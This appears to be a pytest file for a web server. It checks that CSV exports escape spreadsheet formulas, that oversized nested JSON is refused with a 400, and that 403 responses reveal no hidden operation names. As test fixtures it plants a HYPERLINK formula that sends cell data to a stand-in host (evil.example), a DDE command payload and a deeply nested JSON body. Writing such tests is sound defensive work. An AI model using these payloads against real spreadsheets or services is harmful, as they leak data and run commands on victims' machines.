"""The smaller findings of issue 11: formulas in CSVs, deeply nested JSON, 403s that name another
operation. (The database stopped and started has its own file: test_database_down.py.)"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import uuid
from pathlib import Path

import pytest
from sqlalchemy import insert

from server.db.engine import transaction
from server.db.models import Agency, Followup, FollowupResident
from server.domain.followups.hooks import on_followups_stored
from server.lib.csvfile import FORMULA_STARTS, csv_document
from server.settings import get_settings
from tests import factories

ROOT = Path(__file__).resolve().parents[2]
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


def _cells(body: str) -> list[list[str]]:
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            if cell.lstrip(" ").startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell):
                raise AssertionError(f"row {r}, column {c} ({rows[0][c] if c < len(rows[0]) else '?'}): {cell!r}")


def test_the_one_writer_escapes_every_column_and_the_header():
    rows = _cells(csv_document(["=cmd", "name", "n"], [["+SUM(1)", "-2+3", 4], ["@A1", "\tx", -1.5],
                                                       [" =1+2", "\uff1d1+2", None], ["plain", "fine", 0]]))
    _assert_no_formula(rows)
    assert rows[0][0] == "'=cmd" and rows[1] == ["'+SUM(1)", "'-2+3", "4"] and rows[2][2] == "-1.5"
    assert rows[3][1] == "'\uff1d1+2" and rows[4] == ["plain", "fine", "0"]


def test_no_other_csv_writer_in_the_server():
    """One writer: no module but server/lib/csvfile.py builds CSV itself."""
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "server").rglob("*.py")
                 if "csv.writer(" in p.read_text() and p.name != "csvfile.py"]
    assert offenders == []


@pytest.fixture
async def hostile_operation(db_engine, demo):
    """An operation whose every name is a formula: the operation, its streets (name, ref, locality),
    its doors' addresses, a follow-up's description and its resident's details, an agency."""
    async with transaction(db_engine) as session:
        code = f"=agency-{uuid.uuid4().hex[:6]}"
        await session.execute(insert(Agency).values(code=code, name="@Agency", kind="council"))
        op, _ = await factories.operation(session, prefix="=op", like=demo.operation_id,
                                          routing={"graffiti": code, "other": code})
        streets = await factories.streets(session, op, 2, prefix="+ref", name=HOSTILE, locality="@locality")
        await factories.households(session, op, streets, 4, street_name="-1+1 Road")
        users = await factories.users(session)
        fid = uuid.uuid4()
        session.add(Followup(id=fid, operation_id=op, user_id=users["officer"], device_id="csv", category="graffiti",
                             priority="normal", description="=cmd|' /C calc'!A0", resident_consent=True,
                             raised_at=factories_now(), street_id=streets[0],  # its place: the street's name
                             content_hash=hashlib.sha256(fid.bytes).hexdigest()))
        await session.flush()
        session.add(FollowupResident(followup_id=fid, name="+Mr Formula", phone="-0113 496 0000",
                                     email="@evil.example"))
        await session.flush()
        await on_followups_stored(session, [fid], get_settings())
    return op


def factories_now():
    import datetime as dt

    return dt.datetime.now(dt.UTC)


async def test_every_csv_the_server_gives_has_no_formula(client, headers, hostile_operation):
    coordinator = await headers("coordinator")
    bodies = []
    for url in (f"/api/v1/operations/{hostile_operation}/streets?format=csv",
                f"/api/v1/followups.csv?operation_id={hostile_operation}",
                f"/api/v1/followups.csv?operation_id={hostile_operation}&residents=true"):
        r = await client.get(url, headers=coordinator)
        assert r.status_code == 200, (url, r.text[:200])
        rows = _cells(r.text)
        assert len(rows) > 1, url
        _assert_no_formula(rows)
        bodies.append(r.text)
    streets, followups, with_residents = bodies
    # The planted text is there, as text.
    for planted in (f"{HOSTILE} 0", "+ref0", "@locality"):
        assert f"'{planted}".replace('"', '""') in streets, planted
    for planted in ("=op-", "=agency-", f"{HOSTILE} 0", "=cmd|' /C calc'!A0"):
        assert f"'{planted}".replace('"', '""') in followups, planted
    for planted in ("+Mr Formula", "-0113 496 0000", "@evil.example"):
        assert f"'{planted}" in with_residents and planted not in followups, planted


async def test_json_nested_beyond_reason_is_a_400_never_a_500(client, headers, demo):
    officer = {**await headers("officer"), "Content-Type": "application/json"}
    deep = "[" * 100_000 + "]" * 100_000
    def visit(answer: str) -> str:
        return ('{"type":"visit","id":"' + str(uuid.uuid4()) + f'","operation_id":{demo.operation_id},'
                '"household_id":1,"team_id":1,"visited_at":"2026-01-01T00:00:00Z","outcome":"no_answer",'
                '"answers":{"q":' + answer + "}}")

    def push(*records: str) -> str:
        return '{"device_id":"x","records":[' + ",".join(records) + "]}"

    coordinator = {**await headers("coordinator"), "Content-Type": "application/json"}
    cases = [
        ("/api/v1/sync/push", push(deep), officer),
        ("/api/v1/sync/push", push(visit(deep)), officer),
        ("/api/v1/sync/push", push(visit(deep).replace('"q"', '"q\\u0000"')), officer),
        ("/api/v1/auth/token", '{"username":' + deep + ',"password":"x"}', {"Content-Type": "application/json"}),
        ("/api/v1/operations", '{"name":"n","questionnaire_id":"x","area":' + deep + "}", coordinator),
    ]
    for url, body, who in cases:
        r = await client.post(url, content=body, headers=who)
        assert r.status_code == 400, (url, r.status_code, r.text[:200])
        assert "nested too deeply" in r.json()["detail"]
    # Nested a little, where the contract wants a plain value: refused by its type, per record.
    mild = "[" * 40 + '"a"' + "]" * 40
    r = await client.post("/api/v1/sync/push", headers=officer, content=push(visit(mild)))
    assert r.status_code == 200 and r.json()["results"][0]["status"] == "rejected"
    features = {"type": "Feature", "geometry": {"type": "Feature", "geometry": {"type": "FeatureCollection",
                                                                                  "features": []}}}
    r = await client.post("/api/v1/operations", headers=await headers("coordinator"),
                          json={"name": f"nested-{uuid.uuid4().hex[:6]}", "questionnaire_id": "streetsafe-community-v1",
                                "area": features})
    assert r.status_code == 422 and r.json()["field"] == "$.area"


async def test_a_403_names_nothing_the_caller_may_not_see(client, headers, db_engine, demo):
    async with transaction(db_engine) as session:
        secret_op, secret_name = await factories.operation(session, prefix="Operation Nightjar", like=demo.operation_id,
                                                           coordinator="admin")
    for who, url in (("coordinator", f"/api/v1/operations/{secret_op}/streets"),
                     ("coordinator", f"/api/v1/operations/{secret_op}/setup"),
                     ("officer", f"/api/v1/sync/pull?operation_id={secret_op}"),
                     ("officer", f"/api/v1/operations/{secret_op}/pack")):
        r = await client.get(url, headers=await headers(who))
        assert r.status_code == 403, (url, r.text)
        assert "Nightjar" not in r.text and secret_name not in r.text
    page = await client.get(f"/dashboard/operations/{secret_op}",
                            headers={"Cookie": f'doorstep_session="{(await headers("coordinator"))["Authorization"]}"'})
    assert page.status_code == 403 and "Nightjar" not in page.text
